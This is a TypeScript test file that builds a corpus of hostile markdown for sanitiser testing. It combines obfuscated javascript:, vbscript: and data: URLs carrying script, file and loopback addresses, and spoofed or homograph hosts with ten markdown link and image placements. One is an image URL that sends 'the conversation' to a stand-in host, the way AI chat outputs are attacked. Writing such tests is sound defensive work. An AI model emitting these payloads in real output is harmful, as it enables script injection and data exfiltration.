import type { CorpusCase } from "@/tests/corpora/corpus-case";

/** A host that must never hear of anything, and what would tell that a script ran. */
export const stranger = "https://evil.example/";
export const script = "window.didRun=1";

const schemes = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `java\tscript:${script}`,
  `java&Tab;script:${script}`,
  `java&NewLine;script:${script}`,
  `javascript&colon;${script}`,
  `&#106;&#97;vascript:${script}`,
  `&#x6A;&#x61;vascript&#x3A;${script}`,
  `&#0000106avascript:${script}`,
  `\\javascript:${script}`,
  `javascript\\:${script}`,
  `%6A%61vascript:${script}`,
  `\u0001javascript:${script}`,
  `\u00A0javascript:${script}`,
  `\u200Bjavascript:${script}`,
  `\u202Ejavascript:${script}`,
  `javascript://evil.example/%0A${script}`,
  `//evil.example/javascript:${script}`,
  `vbscript:${script}`,
  `livescript:${script}`,
  `data:text/html,<script>${script}</script>`,
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZGlkUnVuPTE8L3NjcmlwdD4=",
  `data:image/svg+xml,<svg onload="${script}"/>`,
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/temporary/1",
  "view-source:https://evil.example/",
  "file:///etc/passwd",
  "intent://evil.example#Intent;scheme=https;end",
  "ms-settings:privacy",
  "/settings",
  "../../api/health",
  "?next=//evil.example",
  "//evil.example/1",
  "\\\\evil.example\\1",
  "https:evil.example",
  "https:\\\\evil.example",
  "https://bank.example@evil.example/",
  "https://bank.example%2F@evil.example/",
  "https://bank.example\\@evil.example/",
  "https://bank.example%E2%80%AE/moc.live",
  "https://xn--pple-43d.example/",
  "https://аpple.example/",
  "http://0x7f.1/",
  "http://[::ffff:127.0.0.1]/",
  "https://evil.example/?q=the%20conversation",
];

const placements: [string, (address: string) => string][] = [
  ["link", (address) => `[click](${address})`],
  ["link in brackets", (address) => `[click](<${address}> "title")`],
  ["image", (address) => `![a](${address})`],
  ["image in brackets", (address) => `![a](<${address}>)`],
  ["image in a link", (address) => `[![a](${address})](${address})`],
  ["reference", (address) => `[click][r] and [r]\n\n[r]: ${address} "t"`],
  ["image by reference", (address) => `![a][r]\n\n- ![r]\n\n[r]: <${address}>`],
  ["autolink", (address) => `<${address}> and ${address}`],
  [
    "in a table, a quote and a list",
    (address) => `| a |\n|---|\n| ![a](${address}) |\n\n> - [x](${address})`,
  ],
  ["footnote", (address) => `a[^1]\n\n[^1]: ![a](${address}) [b](${address})`],
];

/** Every dangerous address in every place where markdown takes one. */
export const hostileAddresses: CorpusCase[] = placements.flatMap(([place, write]) =>
  schemes.map((address) => ({ family: `addresses, ${place}`, markdown: write(address) })),
);
